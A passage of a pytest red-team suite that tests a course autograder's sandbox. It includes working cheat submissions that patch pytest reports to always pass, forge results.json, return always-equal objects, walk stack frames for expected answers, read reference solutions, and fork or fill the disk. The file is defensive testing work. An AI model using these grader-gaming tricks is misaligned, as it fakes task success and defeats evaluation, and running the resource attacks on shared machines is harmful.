"""Red team: hostile submissions that try to earn points they did not earn, or to get out of the worker.

Each attack is a submission (``solutions/`` with one module replaced or extended, or the solution
notebook with an extra cell) graded like an autograder would (``python -m grader.cli grade``, mostly with
``-k check_shapes``). Every test asserts three things:

1. points: the score is exactly the points of the checks the submission passes honestly;
2. completion: the judge finished, exit code 0, and ``results.json`` is the judge's own;
3. containment (needs bubblewrap): nothing of the attack is left running and nothing was written outside
   the grader's work folder. Attacks plant marker files in ``/tmp``, ``/dev/shm``, the repository, the
   ``--out`` folder, ``$HOME`` and the judge's working directory; processes are found through ``/proc``
   by the attack's marker, or by this test's tmp folder, which is in every worker's command line and
   environment (gradings run with ``TMPDIR`` there). The machine is shared with other gradings, so "no
   process of the sandbox uid left" is checked for the processes of this test's grading only.

Without bubblewrap (``bwrap_works()`` false, or ``CNN_GRADER_REDTEAM_SANDBOX=none`` to try that mode here)
the points and completion assertions still run and the containment assertions are skipped with a reason;
attacks that would hit the judge or the machine itself (``kill(getppid())``, ``kill(-1)``) are skipped.

Known weaknesses are tests marked ``xfail(strict=True, raises=KnownWeakness)``: they raise
:class:`KnownWeakness` only for the weakness itself (any other failure is a real failure), and start to
fail as XPASS once the grader is fixed, so the marker can go.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, SHARED_DATA, Graded, _judge_template, course_points

from grader.judge import sandbox

pytestmark = pytest.mark.slow

FORCE_NONE = os.environ.get("CNN_GRADER_REDTEAM_SANDBOX") == "none"
SANDBOXED = sandbox.bwrap_works() and not FORCE_NONE
NO_SANDBOX_REASON = (
    "containment needs bubblewrap: without it the worker runs as the judge's user and may write files and leave "
    "processes behind (docs/security.md, 'What remains open'); points and completion were checked"
)
needs_bwrap = pytest.mark.skipif(not SANDBOXED, reason=NO_SANDBOX_REASON)

# The future import must stay first in a module; the attacks put code before and after the model answer.
SOLUTION_SHAPES = (ROOT / "solutions" / "shapes.py").read_text().replace("from __future__ import annotations\n", "")
SHAPES = {
    f"shapes/{name}"
    for name in (
        "conv_output_size",
        "pool_output_size",
        "conv_params",
        "linear_params",
        "count_parameters",
        "quadrant_net_shapes",
    )
}
FILE_SIZE_LIMIT = sandbox.Limits().file_size
TMPFS_SIZE = sandbox.Limits().tmpfs_size
JUDGE_MEMORY_BUDGET_KIB = 2**20  # 1 GiB: a shapes grading peaks at about 0.55 GiB in the judge


class KnownWeakness(AssertionError):
    """Raised by a test for a documented weakness of the grader (see the test's xfail reason)."""


@dataclass
class Run(Graded):
    judge_peak_kib: int = 0


def honest(graded: Graded, passed: set[str], checks: set[str] | None = SHAPES) -> None:
    """The grading completed and gave exactly the points of ``passed`` (all or nothing per check)."""
    assert graded.returncode == 0, graded.stdout[-3000:]
    if checks is not None:
        assert set(graded.checks) == checks
    assert passed <= set(graded.checks)
    got = set(graded.checks) - graded.failed
    detail = {name: graded.checks[name]["output"][:300] for name in got ^ passed}
    assert got == passed, detail
    for name, test in graded.checks.items():
        assert test["score"] == (test["max_score"] if name in passed else 0), name
    assert graded.results["score"] == sum(graded.checks[name]["max_score"] for name in passed)
    assert graded.results["tests"], "results.json must be the judge's, with its checks"


def output(graded: Graded, check: str) -> str:
    return graded.explanation(check)


PLANT = """

def _plant(tag, text="planted by a submission"):
    import os
    for _folder in @@FOLDERS@@:
        try:
            with open(os.path.join(_folder, @@MARKER@@ + tag), "w") as _file:
                _file.write(text)
        except OSError:
            pass
"""

STEAL_CHANNEL = """

def _steal_channel():
    \"\"\"The worker's current request (with its nonce) and its private reply stream, from the main loop's frame.\"\"\"
    import sys
    frame = sys._getframe()
    while frame is not None and "proto_out" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"], frame.f_locals["proto_out"]


def _send(head, blob=b""):
    import os
    import struct
    _, out = _steal_channel()
    out.write(struct.pack(">Q", len(head)) + head + struct.pack(">Q", len(blob)) + blob)
    out.flush()
    os._exit(0)
"""


class Attack:
    """One attack's marker, submission, grading, and the checks that nothing got out."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp_path = tmp_path
        self.marker = f"cnnrt-{uuid.uuid4().hex[:12]}"
        self.out = tmp_path / "out"
        self.tmpdir = tmp_path / "tmp"
        self.tmpdir.mkdir()
        self.folders = [Path("/tmp"), Path("/dev/shm"), ROOT, self.out, Path.home(), tmp_path]

    # -- building submissions -------------------------------------------------------------------
    def render(self, source: str, **values: object) -> str:
        values = {"MARKER": self.marker, "FOLDERS": [str(f) for f in self.folders], **values}
        for key, value in values.items():
            source = source.replace(f"@@{key}@@", repr(value))
        assert "@@" not in source, source
        return source

    def submission(self, source: str, module: str = "shapes", files: dict[str, str] | None = None) -> Path:
        """solutions/ with ``module`` replaced by ``source`` (rendered, after PLANT's ``_plant``)."""
        target = self.tmp_path / "submission"
        shutil.copytree(ROOT / "solutions", target, ignore=shutil.ignore_patterns("*.ipynb"))  # the modules
        (target / f"{module}.py").write_text(self.render(PLANT + source))
        for name, text in (files or {}).items():
            (target / name).write_text(self.render(PLANT + text))
        return target

    def shapes(self, attack: str) -> Path:
        """The model answer's shapes.py with ``attack`` appended (later definitions win)."""
        return self.submission(SOLUTION_SHAPES + "\n" + attack)

    # -- grading ------------------------------------------------------------------------------------
    def grade(
        self,
        submission: Path,
        *extra: str,
        cwd: Path | None = None,
        command: list[str] | None = None,
        env: dict[str, str] | None = None,
        out: Path | None = None,
    ) -> Run:
        """``python -m grader.cli grade`` in a subprocess (TMPDIR in this test's folder); track the judge's RSS."""
        out = out or self.out
        env = dict(os.environ, TMPDIR=str(self.tmpdir), **(env or {}))
        if "CNN_GRADER_DATA" not in env and (SHARED_DATA / "MNIST" / "raw").is_dir():
            env["CNN_GRADER_DATA"] = str(SHARED_DATA)
        if FORCE_NONE:
            extra = ("--sandbox", "none", *extra)
        # these attacks probe the defences beneath the judge's tamper scan (which flags most of them at once:
        # tests/test_tamper.py), so the scan is off here
        extra = ("--no-tamper-scan", *extra)
        argv = ["grade", str(submission), "--out", str(out), *extra]
        log = out.parent / f"{out.name}.log"
        template = _judge_template() if command is None else None  # a given command runs as itself
        with log.open("wb") as sink:
            if template is not None:  # a judge forked from the template (grader/judge/template.py)
                proc = template.spawn(argv, cwd or self.tmp_path, env, log, log)
            else:
                args = [*(command or [sys.executable, "-m", "grader.cli"]), *argv]
                proc = subprocess.Popen(args, stdout=sink, stderr=subprocess.STDOUT, cwd=cwd or self.tmp_path, env=env)
            peak, deadline = 0, time.monotonic() + 300
            while proc.poll() is None:
                if time.monotonic() > deadline:
                    proc.kill()
                    proc.wait()
                    raise AssertionError(f"the judge did not finish within 300 s:\n{log.read_text()[-3000:]}")
                try:
                    status = Path(f"/proc/{proc.pid}/status").read_text()
                    peak = max(peak, int(re.search(r"VmHWM:\s+(\d+)", status).group(1)))
                except (OSError, AttributeError):
                    pass
                time.sleep(0.05)
        text = log.read_text(errors="replace")
        results_file = out / "results.json"
        if not results_file.exists():
            raise AssertionError(f"no results.json (exit {proc.returncode}):\n{text[-3000:]}")
        feedback = out / "feedback.md"
        return Run(
            json.loads(results_file.read_text()),
            feedback.read_text() if feedback.exists() else "",
            text,
            proc.returncode,
            out,
            peak,
        )

    # -- containment ----------------------------------------------------------------------------------
    def processes(self) -> dict[int, str]:
        """Live processes that carry this attack's marker or this test's folder (cmdline or environment)."""
        needles = (self.marker.encode(), str(self.tmp_path).encode())
        found = {}
        for entry in os.scandir("/proc"):
            if not entry.name.isdigit() or int(entry.name) == os.getpid():
                continue
            try:
                cmdline = Path(entry.path, "cmdline").read_bytes()
                status = Path(entry.path, "status").read_text()
            except OSError:
                continue
            try:
                environ = Path(entry.path, "environ").read_bytes()
            except OSError:
                environ = b""
            if "State:\tZ" in status:
                continue
            if any(n in cmdline or n in environ for n in needles):
                uid = re.search(r"Uid:\s+(\d+)", status).group(1)
                command = cmdline.replace(b"\0", b" ").decode(errors="replace")[:160]
                found[int(entry.name)] = f"uid {uid}: {command}"
        return found

    def leftovers(self, wait: float = 5.0) -> dict[int, str]:
        deadline = time.monotonic() + wait
        while (found := self.processes()) and time.monotonic() < deadline:
            time.sleep(0.1)
        return found

    def planted(self) -> list[Path]:
        return [path for folder in self.folders for path in folder.glob(f"{self.marker}*")]

    def assert_contained(self, graded: Graded | None = None) -> None:
        """Nothing left running, nothing written outside the work folder (skipped without bubblewrap)."""
        if not SANDBOXED:
            pytest.skip(NO_SANDBOX_REASON)
        left = self.leftovers()
        assert not left, f"processes left behind: {left}"
        assert not self.planted(), f"files written outside the work folder: {self.planted()}"
        # (the judge's own torch may leave torchinductor_root there, as in any /tmp)
        assert not list(self.tmpdir.glob("cnn-grader-*")), "the grader's work folder was not removed"
        if graded is not None:
            assert sorted(p.name for p in self.out.iterdir()) == ["feedback.html", "feedback.md", "results.json"]

    def cleanup(self) -> None:
        for pid in self.processes():  # only what this attack started (its marker or this test's folder)
            try:
                os.kill(pid, signal.SIGKILL)
            except (ProcessLookupError, PermissionError):
                pass
        for path in self.planted():
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path, ignore_errors=True)
            else:
                path.unlink(missing_ok=True)


@pytest.fixture
def attack(tmp_path: Path):
    hostile = Attack(tmp_path)
    try:
        yield hostile
    finally:
        hostile.cleanup()


def seen(graded: Graded, check: str, tag: str) -> dict:
    """The JSON a submission smuggled out in an exception message (``TAG{...}END``)."""
    match = re.search(rf"{tag}(\{{.*?\}})END", output(graded, check))
    assert match, output(graded, check)
    return json.loads(match.group(1))


# ---------------------------------------------------------------------------------------------------------
# 1. Exiting, and patching pytest, inside the worker
# ---------------------------------------------------------------------------------------------------------


def test_os_exit_0_at_import_is_not_success(attack: Attack) -> None:
    sub = attack.shapes("_plant('-exit')\nimport os\n\nos._exit(0)\n")
    graded = attack.grade(sub, "-k", "check_shapes")
    honest(graded, set())
    assert "exited with code 0 while importing shapes.py" in output(graded, "shapes/conv_output_size")
    attack.assert_contained(graded)


CHEATS = """

def conv_output_size(*args, **kwargs):
    return 0


def pool_output_size(*args, **kwargs):
    return 0


def conv_params(*args, **kwargs):
    return 0


def linear_params(*args, **kwargs):
    return 0


def count_parameters(*args, **kwargs):
    return 0


def quadrant_net_shapes(*args, **kwargs):
    return [(0, 0, 0)] * 4
"""

PATCH_PYTEST = """
import builtins

import _pytest.reports
import _pytest.runner
import pytest

_init = _pytest.reports.TestReport.__init__


def _always_passed(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.outcome = "passed"
    self.longrepr = None


_pytest.reports.TestReport.__init__ = _always_passed
_pytest.reports.TestReport.passed = property(lambda self: True)
_pytest.reports.TestReport.failed = property(lambda self: False)
pytest.fail = lambda *args, **kwargs: None
_pytest.runner.pytest_runtest_makereport = lambda item, call: _pytest.reports.TestReport(
    item.nodeid, item.location, {}, "passed", None, call.when
)
builtins.AssertionError = type("AssertionError", (Exception,), {})

import grader.judge.expect
import grader.judge.faults

grader.judge.faults.CheckFailure.__init__ = lambda self, *args, **kwargs: None
grader.judge.expect.as_int = lambda obs, what: 0
_plant("-patched")
"""


def test_patching_pytest_reports_in_the_worker_changes_nothing(attack: Attack) -> None:
    sub = attack.submission(PATCH_PYTEST + CHEATS)
    graded = attack.grade(sub, "-k", "check_shapes")
    honest(graded, set())
    assert "returned 0, expected" in output(graded, "shapes/conv_output_size")
    attack.assert_contained(graded)


CONFTEST = """
import os

import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="rigged"))


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""

CONFTEST_PLANT = """
if os.environ.get("CNN_GRADER_WORKER") != "1":
    _plant("-conftest-imported-by-the-judge")
"""

CONSOLE_SCRIPT = [str(Path(sys.executable).parent / "cnn-grader")]


@pytest.mark.parametrize("where", ["cwd_elsewhere", "cwd_in_submission_console_script"])
def test_conftest_shipped_in_the_submission_is_never_loaded_by_the_judge(attack: Attack, where: str) -> None:
    sub = attack.submission("import conftest  # the worker may import it; it decides nothing there\n" + CHEATS)
    (sub / "conftest.py").write_text(attack.render(CONFTEST + PLANT + CONFTEST_PLANT))
    if where == "cwd_elsewhere":
        graded = attack.grade(sub, "-k", "check_shapes")
    else:
        graded = attack.grade(sub, "-k", "check_shapes", cwd=sub, command=CONSOLE_SCRIPT)
    honest(graded, set())
    # The judge runs unconfined: had it imported conftest.py, this file would exist in both modes.
    assert not list(attack.tmp_path.glob(f"{attack.marker}-conftest-imported*"))
    assert not list(Path("/tmp").glob(f"{attack.marker}-conftest-imported*"))
    attack.assert_contained(graded)


FAKE_PYTEST = """
import json
import os
import sys

if os.environ.get("CNN_GRADER_WORKER") != "1" and "--out" in sys.argv:  # imported by the judge itself
    _plant("-pytest-imported-by-the-judge")
    _out = sys.argv[sys.argv.index("--out") + 1]
    os.makedirs(_out, exist_ok=True)
    with open(os.path.join(_out, "results.json"), "w") as _file:
        json.dump({"score": 100.0, "max_score": 100.0, "output": "forged by pytest.py", "tests": [
            {"name": "shapes/forged", "score": 100.0, "max_score": 100.0, "status": "passed", "output": ""}
        ]}, _file)
    with open(os.path.join(_out, "feedback.md"), "w") as _file:
        _file.write("**Score: 100 / 100**")
    os._exit(0)
"""

PYTHON_M_REASON = (
    "`python -m grader.cli` (or `python -m pytest --submission .`) started in the submission folder puts that "
    "folder first on the judge's sys.path, so a student's pytest.py (or torch.py, hypothesis.py, grader/...) "
    "runs inside the unconfined judge and can write any results.json. Not fixable inside grader/ (the shadowing "
    "happens before grader.cli runs): autograder scripts must use the cnn-grader console script or `python -P`, "
    "and never start from the submission folder; the README should say so"
)


@pytest.mark.parametrize(
    "where",
    [
        "cwd_elsewhere",
        "cwd_in_submission_console_script",
        pytest.param(
            "cwd_in_submission_python_m",
            marks=pytest.mark.xfail(strict=True, raises=KnownWeakness, reason=PYTHON_M_REASON),
        ),
    ],
)
def test_pytest_py_shipped_in_the_submission(attack: Attack, where: str) -> None:
    sub = attack.submission("import pytest  # the student's own, in the worker\n" + CHEATS)
    (sub / "pytest.py").write_text(attack.render(PLANT + FAKE_PYTEST))
    if where == "cwd_elsewhere":
        graded = attack.grade(sub, "-k", "check_shapes")
    elif where == "cwd_in_submission_console_script":
        graded = attack.grade(sub, "-k", "check_shapes", cwd=sub, command=CONSOLE_SCRIPT)
    else:
        graded = attack.grade(sub, "-k", "check_shapes", cwd=sub, command=[sys.executable, "-m", "grader.cli"])
        if "forged by pytest.py" in graded.results.get("output", ""):
            raise KnownWeakness(f"the judge imported the submission's pytest.py: {graded.results}")
    honest(graded, set())
    assert not list(Path("/tmp").glob(f"{attack.marker}-pytest-imported*"))
    attack.assert_contained(graded)


# ---------------------------------------------------------------------------------------------------------
# 2. Lying return values, frames, reference files, symlinks
# ---------------------------------------------------------------------------------------------------------

ALWAYS_EQUAL = """
import numbers


class _YesInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __int__(self):
        return 3

    __hash__ = int.__hash__


class _YesFloat(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


numbers.Integral.register(_YesFloat)  # claims to be an int to anything that asks


class _Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __len__(self):
        return 4

    def __iter__(self):
        return iter([self] * 4)

    def __index__(self):
        return 0

    __hash__ = object.__hash__


class _YesTuple(tuple):
    def __eq__(self, other):
        return True

    __hash__ = tuple.__hash__


def conv_output_size(*args, **kwargs):
    return _YesInt(0)


def pool_output_size(*args, **kwargs):
    return _YesFloat(0.5)


def conv_params(*args, **kwargs):
    return _Anything()


def linear_params(*args, **kwargs):
    return _YesFloat(-1.0)


def count_parameters(*args, **kwargs):
    return _YesInt(-7)


def quadrant_net_shapes(*args, **kwargs):
    return [_YesTuple((_YesInt(0), _YesFloat(0.0), _Anything()))] * 4
"""


def test_objects_that_equal_everything_earn_nothing(attack: Attack) -> None:
    graded = attack.grade(attack.submission(ALWAYS_EQUAL), "-k", "check_shapes")
    honest(graded, set())
    assert "_Anything object" in output(graded, "shapes/conv_params")
    attack.assert_contained(graded)


FRAME_WALKER = """
import gc
import inspect
import sys

_SUSPECT = ("expected", "expect", "answer", "ref", "reference", "want", "truth", "labels")
_from_gc = []


def _steal():
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
            if name in _SUSPECT:
                found.append(value)
        frame = frame.f_back
    for info in inspect.stack():
        found += [v for k, v in info.frame.f_locals.items() if k in _SUSPECT]
    if not _from_gc:
        _from_gc.append([o["expected"] for o in gc.get_objects() if isinstance(o, dict) and "expected" in o])
    found += _from_gc[0]
    ints = [v for v in found if isinstance(v, int) and not isinstance(v, bool)]
    return ints[0] if ints else -1


def conv_output_size(*args, **kwargs):
    return _steal()


def pool_output_size(*args, **kwargs):
    return _steal()


def conv_params(*args, **kwargs):
    return _steal()


def linear_params(*args, **kwargs):
    return _steal()


def count_parameters(*args, **kwargs):
    return _steal()


def quadrant_net_shapes(*args, **kwargs):
    stack = [info.function for info in inspect.stack()]
    local_names = sorted({k for info in inspect.stack() for k in info.frame.f_locals})
    raise RuntimeError("FRAMES" + __import__("json").dumps({"stack": stack, "locals": local_names}) + "END")
"""

JUDGE_NAMES = {"_int_property", "run_property", "ask", "test_quadrant_net_shapes", "request", "expected", "ref"}


def test_frame_walking_finds_no_judge_data(attack: Attack) -> None:
    graded = attack.grade(attack.submission(FRAME_WALKER), "-k", "check_shapes")
    honest(graded, set())
    frames = seen(graded, "shapes/quadrant_net_shapes", "FRAMES")
    assert frames["stack"][0] == "quadrant_net_shapes" and {"op_call", "op_call_many"} & set(frames["stack"])
    assert not JUDGE_NAMES & set(frames["stack"]), frames["stack"]
    assert "expected" not in frames["locals"], frames["locals"]
    attack.assert_contained(graded)


READ_REFERENCE = """
import importlib
import runpy
import sys
from pathlib import Path

import grader

_stolen = {}


def _try(load):
    if _stolen:
        return
    try:
        namespace = load()
    except BaseException:
        return
    if namespace and "conv_output_size" in namespace:
        _stolen.update(namespace)


_try(lambda: vars(importlib.import_module("reference.shapes")))
for _root in (Path(grader.__file__).resolve().parents[1], Path(@@ROOT@@)):
    for _folder in ("reference", "solutions"):
        _try(lambda: runpy.run_path(str(_root / _folder / "shapes.py")))
for _module in list(sys.modules.values()):  # setuptools' editable finder maps reference/ to its folder
    _mapping = getattr(_module, "MAPPING", None)
    if isinstance(_mapping, dict):
        for _path in _mapping.values():
            _try(lambda: runpy.run_path(str(Path(_path) / "shapes.py")))


def _cheat(name):
    def cheat(*args, **kwargs):
        if name in _stolen:
            return _stolen[name](*args, **kwargs)
        return -1
    return cheat


conv_output_size = _cheat("conv_output_size")
pool_output_size = _cheat("pool_output_size")
conv_params = _cheat("conv_params")
linear_params = _cheat("linear_params")
count_parameters = _cheat("count_parameters")
quadrant_net_shapes = _cheat("quadrant_net_shapes")
"""


def test_reading_reference_or_solutions_by_path(attack: Attack) -> None:
    graded = attack.grade(attack.submission(attack.render(READ_REFERENCE, ROOT=str(ROOT))), "-k", "check_shapes")
    assert graded.returncode == 0
    if not SANDBOXED:
        assert graded.results["score"] == 20, "the cheat itself works where the files are visible"
        pytest.skip("without bubblewrap reference/ is readable by the worker (documented open): the cheat works")
    honest(graded, set())
    attack.assert_contained(graded)


def test_reference_and_solutions_lie_outside_every_sandbox_mount() -> None:
    """The reason the attack above fails, checked for this installation.

    The sandbox mounts ``sys.prefix`` whole, and ``pyproject.toml`` packages ``reference*`` next to ``grader``:
    with a regular (non-editable) ``pip install .`` reference/ lands in site-packages, inside the sandbox, and
    ``import reference.shapes`` works in the worker. The editable install used here maps it to the checkout.
    """
    import reference

    roots = sandbox._readonly_roots()
    for secret in (Path(reference.__file__).resolve().parent, ROOT / "solutions"):
        inside = [str(root) for root in roots if secret.is_relative_to(root)]
        assert not inside, f"{secret} is visible in the sandbox through the read-only mount of {inside}"


SYMLINKED = """
try:
    from ref_shapes import *  # noqa: F403 - a symlink to reference/shapes.py
except ImportError:
    try:
        from refdir.shapes import *  # noqa: F403 - a symlink to reference/
    except ImportError:
        try:
            from helpers.inner import *  # noqa: F403 - a real folder holding a symlink to solutions/shapes.py
        except ImportError:
            from _fallback import *  # noqa: F403
"""


def test_symlinks_into_reference_are_not_copied(attack: Attack) -> None:
    sub = attack.submission(SYMLINKED, files={"_fallback.py": CHEATS})
    (sub / "ref_shapes.py").symlink_to(ROOT / "reference" / "shapes.py")
    (sub / "refdir").symlink_to(ROOT / "reference", target_is_directory=True)
    (sub / "helpers").mkdir()
    (sub / "helpers" / "inner.py").symlink_to(ROOT / "solutions" / "shapes.py")
    graded = attack.grade(sub, "-k", "check_shapes")
    honest(graded, set())
    attack.assert_contained(graded)


FAKE_RESULTS = """
import json
import os

_FORGED = {"score": 100.0, "max_score": 100.0, "output": "forged results", "tests": [
    {"name": n, "score": 5.0, "max_score": 5.0, "status": "passed", "output": "forged"} for n in ("a", "b")
]}
for _folder in (@@OUT@@, @@JUDGE_CWD@@, os.getcwd(), os.path.expanduser("~")):
    try:
        os.makedirs(_folder, exist_ok=True)
        with open(os.path.join(_folder, "results.json"), "w") as _file:
            json.dump(_FORGED, _file)
        with open(os.path.join(_folder, "feedback.md"), "w") as _file:
            _file.write("**Score: 100 / 100** forged")
    except OSError:
        pass
_plant("-results")
"""


def test_fake_results_json_in_out_folder_and_cwd(attack: Attack) -> None:
    source = attack.render(FAKE_RESULTS, OUT=str(attack.out), JUDGE_CWD=str(attack.tmp_path)) + CHEATS
    graded = attack.grade(attack.submission(source), "-k", "check_shapes")
    honest(graded, set())  # the judge's own results.json, written last, in both modes
    assert "forged" not in json.dumps(graded.results) and "forged" not in graded.feedback
    assert "**Score: 0 / 20**" in graded.feedback
    if SANDBOXED:
        assert not (attack.tmp_path / "results.json").exists(), "written into the judge's working directory"
    else:
        (attack.tmp_path / "results.json").unlink(missing_ok=True)
        (attack.tmp_path / "feedback.md").unlink(missing_ok=True)
    attack.assert_contained(graded)


# ---------------------------------------------------------------------------------------------------------
# 3. Resources: processes, memory, time, disk
# ---------------------------------------------------------------------------------------------------------

# A real bomb (`while True: os.fork()`) stops at RLIMIT_NPROC, a budget per sandbox uid (each grading session has
# its own: see test_process_budget_is_not_shared_between_concurrent_sandboxes); this test still stops at a bounded
# number of processes so it never loads a shared machine.
FORK_CHILDREN = 120

FORK_BOMB = """
_forked = []


def conv_params(*args, **kwargs):
    import os
    while len(_forked) < @@N@@:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()  # a process group of its own: killing the worker's group does not reach it
                os.execv("/bin/bash", ["bash", "-c", "exec -a " + @@MARKER@@ + "-fork sleep 600"])
            finally:
                os._exit(0)
        _forked.append(pid)
    while True:
        pass
"""


def test_bounded_fork_bomb_dies_with_the_sandbox(attack: Attack) -> None:
    sub = attack.shapes(attack.render(FORK_BOMB, N=FORK_CHILDREN))
    graded = attack.grade(sub, "-k", "check_shapes", "--timeout", "3")
    honest(graded, SHAPES - {"shapes/conv_params"})
    assert "no answer within 3 s" in output(graded, "shapes/conv_params")
    attack.assert_contained(graded)


HUGE_ALLOCATION = """

def conv_params(*args, **kwargs):
    import torch
    virtual = torch.empty(10 * 2**30, dtype=torch.uint8)  # 10 GiB of address space, never touched
    assert virtual.numel() == 10 * 2**30
    return bytearray(30 * 2**30)  # beyond the 24 GiB address-space limit


def linear_params(*args, **kwargs):
    import torch
    return torch.empty(10 * 2**30, dtype=torch.uint8)  # 10 GiB back to the judge?
"""


def test_huge_allocations_fail_the_check_only(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(HUGE_ALLOCATION), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/conv_params", "shapes/linear_params"})
    if shutil.which("prlimit"):
        assert "MemoryError" in output(graded, "shapes/conv_params")
    assert "tensor of shape (10737418240,)" in output(graded, "shapes/linear_params")
    assert graded.judge_peak_kib < JUDGE_MEMORY_BUDGET_KIB, "only the tensor's description reaches the judge"
    attack.assert_contained(graded)


ENDLESS = """

def conv_params(*args, **kwargs):
    while True:
        pass


def linear_params(*args, **kwargs):
    import time
    time.sleep(3600)
"""


def test_endless_loop_and_sleep_cost_one_timeout_each(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(ENDLESS), "-k", "check_shapes", "--timeout", "3")
    honest(graded, SHAPES - {"shapes/conv_params", "shapes/linear_params"})
    assert "no answer within 3 s" in output(graded, "shapes/conv_params")
    assert "no answer within 3 s" in output(graded, "shapes/linear_params")
    attack.assert_contained(graded)


BIG_FILES = """

def count_parameters(*args, **kwargs):
    import json
    import os
    chunk = bytes(8 * 2**20)
    wrote = {}
    for where in ("cwd", "tmp", "shm"):
        folder = {"cwd": os.getcwd(), "tmp": "/tmp", "shm": "/dev/shm"}[where]
        path = os.path.join(folder, @@MARKER@@ + "-big")
        total = 0
        try:
            with open(path, "wb", buffering=0) as file:
                for _ in range(128):  # 1 GiB
                    total += file.write(chunk)
        except OSError as exc:
            wrote[where + "_error"] = type(exc).__name__
        wrote[where] = total
        try:
            os.unlink(path)
        except OSError:
            pass
    raise RuntimeError("WROTE" + json.dumps(wrote) + "END")
"""


def test_one_gigabyte_file_stops_at_the_limits(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(attack.render(BIG_FILES)), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/count_parameters"})
    wrote = seen(graded, "shapes/count_parameters", "WROTE")
    if shutil.which("prlimit"):
        assert wrote["cwd"] <= FILE_SIZE_LIMIT and wrote["cwd_error"] == "OSError", wrote  # EFBIG (RLIMIT_FSIZE)
    if SANDBOXED:
        assert wrote["tmp"] <= TMPFS_SIZE and wrote["shm"] <= TMPFS_SIZE, wrote  # sized private tmpfs
    attack.assert_contained(graded)


MANY_FILES = """

def count_parameters(*args, **kwargs):
    import json
    import os
    chunk = bytes(8 * 2**20)
    total = 0
    for index in range(5):  # 5 x 200 MiB, each under RLIMIT_FSIZE, in the scratch folder on the host's disk
        try:
            with open(f"fill-{index}", "wb", buffering=0) as file:
                for _ in range(25):
                    total += file.write(chunk)
        except OSError:
            break
    raise RuntimeError("WROTE" + json.dumps({"total": total}) + "END")
"""

SCRATCH_REASON = (
    "the worker's scratch folder is a read-write bind of the host's disk (the grader's mkdtemp) with no size "
    "limit: RLIMIT_FSIZE caps one file at 256 MiB, not their number, so a submission can fill the instructor's "
    "disk (about 1 GB/s) until its request times out, once per check. Fix in grader/judge/sandbox.py: give the "
    "scratch folder a size limit (a sized tmpfs like /tmp, or a quota'd filesystem)"
)


@needs_bwrap
@pytest.mark.xfail(strict=True, raises=KnownWeakness, reason=SCRATCH_REASON)
def test_scratch_folder_on_the_host_disk_is_bounded(attack: Attack) -> None:
    graded = attack.grade(attack.shapes(MANY_FILES), "-k", "check_shapes")
    honest(graded, SHAPES - {"shapes/count_parameters"})
    total = seen(graded, "shapes/count_parameters", "WROTE")["total"]
    attack.assert_contained(graded)
    if total > TMPFS_SIZE:
        raise KnownWeakness(f"the worker wrote {total / 2**20:.0f} MiB into its scratch folder on the host's disk")


@needs_bwrap
@pytest.mark.skipif(os.geteuid() != 0, reason="the per-uid process budget applies when root drops to a uid")
def test_process_budget_is_not_shared_between_concurrent_sandboxes(tmp_path: Path, monkeypatch) -> None:
    """Two sandboxes built by the grader's own bwrap_command: each grading session gets its own uid."""

    def confined(name: str, script: str, processes: int) -> tuple[int, list[str]]:
        base = tmp_path / name
        for folder in ("submission", "inputs", "scratch"):
            (base / folder).mkdir(parents=True)
        uid = sandbox.sandbox_uid(base / "scratch")
        os.chown(base / "scratch", uid, uid)
        command = sandbox.bwrap_command(
            ["/bin/sh", "-c", script],
            submission=base / "submission",
            inputs=base / "inputs",
            scratch=base / "scratch",
            env={"PATH": "/usr/bin:/bin"},
            limits=sandbox.Limits(processes=processes),
        )
        return uid, command

    probe_script = "for i in 1 2 3; do sleep 0 & done; wait && echo forked"
    alone = subprocess.run(confined("alone", probe_script, 8)[1], capture_output=True, text=True, timeout=60)
    assert "forked" in alone.stdout, f"a sandbox alone can fork 3 children under a budget of 8: {alone.stderr}"
    uid, hog_command = confined("hog", "for i in $(seq 12); do sleep 60 & done; wait", 64)
    hog = subprocess.Popen(hog_command)
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            tasks = 0
            for entry in os.scandir("/proc"):
                try:
                    tasks += f"Uid:\t{uid}\t" in Path(entry.path, "status").read_text()
                except OSError:
                    pass
            if tasks >= 12:
                break
            time.sleep(0.1)
        beside_uid, beside_command = confined("beside", probe_script, 8)
        assert beside_uid != uid
        beside = subprocess.run(beside_command, capture_output=True, text=True, timeout=60)
    finally:
        hog.kill()  # the outer bwrap: its namespace and the sleeps die with it
        hog.wait()
    if "forked" not in beside.stdout:
        raise KnownWeakness(f"another sandbox's processes used up this one's budget: {beside.stderr.strip()[:200]}")


# ---------------------------------------------------------------------------------------------------------
# 4. Network, signals, environment, daemons
# ---------------------------------------------------------------------------------------------------------

NETWORK = """

def count_parameters(*args, **kwargs):
    import json
    import socket
    tried = {}
    try:
        socket.create_connection(("127.0.0.1", @@TCP@@), timeout=2).sendall(b"hello from the worker")
        tried["tcp"] = "connected"
    except OSError as exc:
        tried["tcp"] = repr(exc)
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"hello from the worker", ("127.0.0.1", @@UDP@@))
        tried["udp"] = "sent"
    except OSError as exc:
